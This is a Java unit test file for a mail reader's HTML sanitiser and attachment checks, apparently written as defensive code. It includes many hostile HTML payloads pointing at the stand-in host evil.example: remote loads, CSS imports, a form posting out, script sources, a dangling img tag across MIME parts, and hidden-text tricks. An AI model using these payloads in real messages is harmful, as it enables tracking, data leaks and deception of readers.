package org.waxwing.crypto.page;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.waxwing.crypto.mime.AttachedFile;
import org.waxwing.crypto.mime.MimeParser;
import org.waxwing.crypto.mime.MimeParsing;
import org.waxwing.crypto.mime.Octets;
import org.waxwing.crypto.page.FileJudgement.Caution;

/// Each test is named after the threat.
class HtmlAttacksTest {
    private static final String SECRET = "the stolen words";

    private static Page page(String html) {
        return HtmlPages.of(html, List.of());
    }

    private static Set<Notice.Kind> notices(Page page) {
        return page.notices().stream().map(Notice::kind).collect(Collectors.toSet());
    }

    private static LetterContent letter(String message) {
        MimeParsing.Parsed parsed = (MimeParsing.Parsed) MimeParser.parse(Octets.ofUtf8(message));
        return ContentReader.read(parsed.root(), true);
    }

    @Test
    void aPictureThatIsLeftOpenInOnePartDoesNotSwallowTheNext() {
        LetterContent content = letter("""
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary=b

            --b
            Content-Type: text/html

            <p>hi</p><img src="https://evil.example/
            --b
            Content-Type: text/plain

            the stolen words
            --b
            Content-Type: text/html

            ">
            --b--
            """);
        assertFalse(content.text().contains(SECRET));
        assertFalse(content.page().toString().contains(SECRET));
        assertEquals(2, content.attachments().size());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<img src='https://evil.example/a'>",
                "<img srcset='https://evil.example/a 2x'>",
                "<link rel=preconnect href='https://evil.example'>",
                "<link rel=stylesheet href='https://evil.example/a.css'>",
                "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b)}</style>",
                "<div style=\"background:url('https://evil.example/b')\">x</div>",
                "<body background='https://evil.example/b'>x",
                "<table background='https://evil.example/b'><td>x</table>",
                "<svg><image href='https://evil.example/a'/><use href='https://evil.example/#a'/></svg>",
                "<math><mi xlink:href='https://evil.example/a'>x</mi></math>",
                "<video poster='https://evil.example/a'><source src='https://evil.example/b'></video>",
                "<iframe src='https://evil.example'></iframe><iframe srcdoc='<img src=https://evil.example>'></iframe>",
                "<object data='https://evil.example'></object><embed src='https://evil.example'>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href='https://evil.example/'><img src='a.png'>",
                "<form action='https://evil.example'><input name=a value=b><button>Go</button></form>",
                "<input type=image src='https://evil.example/a'>",
                "<img src='data:text/html;base64,PHNjcmlwdD4=' onerror='x'>",
                "<img src='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4='>",
                "<script src='https://evil.example/a.js'></script><p onclick='x()'>x</p>",
                "<noscript><img src='https://evil.example/a'></noscript>",
                "<p><![CDATA[<img src=https://evil.example/a>]]></p>"
            })
    void nothingInALetterHoldsAnAddressThatCouldBeLoaded(String html) {
        Page page = page("<p>before</p>" + html + "<p>after</p>");
        HtmlFuzz.check(page);
        assertFalse(
                page.blocks().toString().contains("evil.example"), page.blocks().toString());
        assertTrue(page.text().contains("before"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<div style='display:none'>the stolen words</div>",
                "<div style='DISPLAY : NONE !important'>the stolen words</div>",
                "<div hidden>the stolen words</div>",
                "<div style='visibility:hidden'>the stolen words</div>",
                "<div style='opacity:0.01'>the stolen words</div>",
                "<div style='opacity:0%'>the stolen words</div>",
                "<span style='font-size:0'>the stolen words</span>",
                "<span style='font-size:1px'>the stolen words</span>",
                "<span style='font-size:.1em'>the stolen words</span>",
                "<div style='max-height:0;overflow:hidden'>the stolen words</div>",
                "<div style='height:1px;width:1px;overflow:hidden'>the stolen words</div>",
                "<div style='position:absolute;left:-9999px'>the stolen words</div>",
                "<div style='position:fixed;top:-500em'>the stolen words</div>",
                "<div style='text-indent:-9999px'>the stolen words</div>",
                "<div style='margin-left:-9999px'>the stolen words</div>",
                "<div style='clip-path:inset(100%)'>the stolen words</div>",
                "<div style='position:absolute;clip:rect(0,0,0,0)'>the stolen words</div>",
                "<div style='transform:scale(0)'>the stolen words</div>",
                "<div style='display:/**/none'>the stolen words</div>",
                "<blockquote style='display:none'>the stolen words</blockquote>",
                "<li style='display:none'>the stolen words",
                "<ul><li style='display:none'>the stolen words</ul>",
                "<table><tr><th>x<th style='display:none'>the stolen words<tr><td>y<td>z</table>"
            })
    void wordsThatTheReaderWouldNotSeeAreNeitherShownNorQuoted(String html) {
        Page page = page("<p>What do you think?</p>" + html);
        assertFalse(page.text().contains(SECRET));
        assertTrue(notices(page).contains(Notice.Kind.HIDDEN_TEXT), html);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<p style='color:#fff'>the stolen words</p>",
                "<p style='background:#123456;color:#133557'>the stolen words</p>",
                "<font color=white>the stolen words</font>",
                "<table><td bgcolor=black><span style='color:rgb(5,5,5)'>the stolen words</span></table>"
            })
    void wordsInTheColourOfTheirGroundAreShown(String html) {
        Page page = page(html);
        assertTrue(page.text().contains(SECRET));
        assertEquals(Set.of(Notice.Kind.FAINT_TEXT), notices(page));
    }

    @Test
    void aStyleSheetChangesNothing() {
        Page page = page("<style>.a{display:none} @media print{.b{display:block}} .c{position:fixed;top:0}</style>"
                + "<p class=a>shown</p><p class=b>as well</p><div class=c>below</div>");
        assertEquals("shown\n\nas well\n\nbelow", page.text());
    }

    @Test
    void aFakeStatusStandsWhereItWasWritten() {
        Page page = page("<p>Hi</p><div style='position:fixed;top:0;z-index:999'>Sealed, signed by Anna</div>");
        assertEquals("Hi\n\nSealed, signed by Anna", page.text());
    }

    @Test
    void onlyWhatIsShownCanBeQuotedOfTwoAlternatives() {
        LetterContent content = letter("""
            MIME-Version: 1.0
            Content-Type: multipart/alternative; boundary=b

            --b
            Content-Type: text/plain

            the stolen words
            --b
            Content-Type: text/html

            <p>harmless</p>
            --b--
            """);
        assertEquals("harmless", content.formatted().orElseThrow().text());
        assertEquals(SECRET, content.page().text().strip());
    }

    @Test
    void aFileIsNotWhatItsNameSays() {
        assertEquals(
                EnumSet.of(Caution.NOT_WHAT_ITS_NAME_SAYS, Caution.DOES_SOMETHING),
                file("minutes.pdf", "MZ\u0090\0").cautions());
        assertEquals(
                EnumSet.of(Caution.NOT_WHAT_ITS_NAME_SAYS, Caution.MAY_RUN_THINGS),
                file("wave.png", "<svg onload=x>").cautions());
        assertEquals(Set.of(), file("notes.txt", "hello").cautions());
        assertEquals(
                Set.of(),
                file("budget.ods", "PK\u0003\u0004mimetypeapplication/vnd.oasis")
                        .cautions());
        assertEquals(Set.of(), file("a.zip", "PK\u0003\u0004xx").cautions());
    }

    @Test
    void aNameHidesItsTrueEnding() {
        assertEquals(
                EnumSet.of(Caution.TWO_ENDINGS, Caution.DOES_SOMETHING),
                file("invoice.pdf.exe", "MZ\u0090\0").cautions());
        assertEquals(
                EnumSet.of(Caution.TWO_ENDINGS, Caution.DOES_SOMETHING),
                file("photo.jpg.js", "WScript.Echo(1)").cautions());
        assertEquals(
                EnumSet.of(Caution.DOES_SOMETHING),
                file("setup.sh", "#!/bin/sh").cautions());
        assertEquals(
                EnumSet.of(Caution.MAY_RUN_THINGS), file("page.html", "<html>").cautions());
    }

    private static FileJudgement file(String name, String content) {
        return FileJudgement.of(
                new AttachedFile(name, "application/pdf", Octets.of(content.getBytes(StandardCharsets.ISO_8859_1))));
    }
}
